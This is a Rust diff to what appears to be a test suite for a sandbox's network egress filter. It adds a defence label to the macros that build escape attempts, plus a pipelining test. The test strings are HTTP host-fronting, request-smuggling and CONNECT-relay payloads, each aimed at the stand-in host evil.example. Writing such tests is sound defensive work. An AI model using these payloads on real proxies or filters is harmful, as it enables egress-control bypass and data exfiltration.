@@ -6,9 +6,12 @@ use super::{ALLOWED, Attempt, Success};
 /// Bytes to an allowed name's port 80.
 macro_rules! send {
     ($name:literal, $data:literal) => {
+        send!($name, "host", $data)
+    };
+    ($name:literal, $defence:literal, $data:literal) => {
         Attempt::new(
             $name,
-            "net_host",
+            $defence,
             ALLOWED,
             concat!("HOST = 'raw.allowed.example'\nreached(HOST, data=", $data, ")"),
         )
@@ -19,15 +22,25 @@ macro_rules! send {
 /// the hidden request arrives.
 macro_rules! smuggle {
     ($name:literal, $word:literal, $data:literal) => {
+        smuggle!($name, "requests", $word, $data)
+    };
+    ($name:literal, $defence:literal, $word:literal, $data:literal) => {
         Attempt::new(
             $name,
-            "net_host",
+            $defence,
             ALLOWED,
             concat!("HOST = 'raw.allowed.example'\npush(HOST, ", $data, ")\nverdict(False)"),
         )
         .when(Success::Sent($word))
     };
 }
+
+/// Both at once, and time for both answers.
+const PIPELINED: &str = "
+with connect('raw.allowed.example', 80) as stream:
+    stream.sendall(get('raw.allowed.example') + get('evil.example', '/pipelined'))
+    read(stream, b'\\0never')
+verdict(False)";
 
 const LATER: &str = "
 verdict(talk('raw.allowed.example', 80, get('raw.allowed.example'), get('evil.example')))";
@@ -40,9 +53,12 @@ verdict(talk('raw.allowed.example', 80, ask_for, get('evil.example')))";
 /// A proxy behind an allowed name that connects everybody with everything.
 macro_rules! relay {
     ($name:literal, $host:literal, $port:literal) => {
+        relay!($name, "requests", $host, $port)
+    };
+    ($name:literal, $defence:literal, $host:literal, $port:literal) => {
         Attempt::new(
             $name,
-            "net_connect",
+            $defence,
             ALLOWED,
             concat!(
                 "
@@ -66,7 +82,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     send!("cannot_front_by_host", "get('evil.example')"),
     send!("cannot_ask_without_host", "b'GET / HTTP/1.1\\r\\n\\r\\n'"),
     send!("cannot_ask_in_the_first_version", "b'GET / HTTP/1.0\\r\\n\\r\\n'"),
-    send!("cannot_ask_without_a_version", "b'GET /\\r\\n'"),
+    send!("cannot_ask_without_a_version", "requests", "b'GET /\\r\\n'"),
     send!("cannot_give_two_hosts",
         "get(HOST)[:-2] + b'Host: evil.example\\r\\n\\r\\n'"),
     send!("cannot_give_two_hosts_the_other_way",
@@ -75,11 +91,11 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
         "f'GET http://evil.example/ HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()"),
     send!("cannot_put_a_user_before_the_host", "get(HOST + '@evil.example')"),
     send!("cannot_put_a_list_into_the_host", "get(HOST + ', evil.example')"),
-    send!("cannot_end_the_host_early", "get(HOST + '\\0.evil.example')"),
-    smuggle!("cannot_pipeline_another_host", "GET /pipelined",
-        "get(HOST) + get('evil.example', '/pipelined')"),
-    Attempt::new("cannot_change_the_host_later", "net_host", ALLOWED, LATER),
-    Attempt::new("cannot_change_the_host_behind_an_upgrade", "net_host", ALLOWED, REFUSED_UPGRADE),
+    send!("cannot_end_the_host_early", "requests", "get(HOST + '\\0.evil.example')"),
+    Attempt::new("cannot_pipeline_another_host", "host", ALLOWED, PIPELINED)
+        .when(Success::Sent("GET /pipelined")),
+    Attempt::new("cannot_change_the_host_later", "host", ALLOWED, LATER),
+    Attempt::new("cannot_change_the_host_behind_an_upgrade", "host", ALLOWED, REFUSED_UPGRADE),
     smuggle!("cannot_smuggle_by_two_lengths", "GET /two-lengths",
         "get(HOST)[:-2] + b'Content-Length: 5\\r\\nContent-Length: 0\\r\\n\\r\\n' \
         + get('evil.example', '/two-lengths')"),
@@ -99,7 +115,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
         "f'GET /folded HTTP/1.1\\r\\nHost: {HOST}\\r\\n .evil.example\\r\\n\\r\\n'.encode()"),
     smuggle!("cannot_put_a_space_before_the_colon", "GET /spaced",
         "f'GET /spaced HTTP/1.1\\r\\nHost : evil.example\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()"),
-    smuggle!("cannot_end_lines_by_half", "GET /half-ended",
+    smuggle!("cannot_end_lines_by_half", "host", "GET /half-ended",
         "f'GET /half-ended HTTP/1.1\\r\\nX: y\\nHost: evil.example\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()"),
     smuggle!("cannot_hide_the_host_behind_a_long_header", "Host: behind.evil.example",
         "b'GET / HTTP/1.1\\r\\nX: ' + b'y' * 200000 + b'\\r\\nHost: behind.evil.example\\r\\n\\r\\n'"),
@@ -110,6 +126,6 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
         HTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n'"),
     relay!("cannot_relay_by_connect", "alone.example:80", "80"),
     relay!("cannot_relay_by_connect_in_the_proxys_name", "proxy.allowed.example", "80"),
-    relay!("cannot_relay_by_connect_where_tls_belongs", "proxy.allowed.example", "443"),
+    relay!("cannot_relay_by_connect_where_tls_belongs", "protocol", "proxy.allowed.example", "443"),
     relay!("cannot_relay_by_connect_on_a_proxys_port", "proxy.allowed.example", "3128"),
 ];
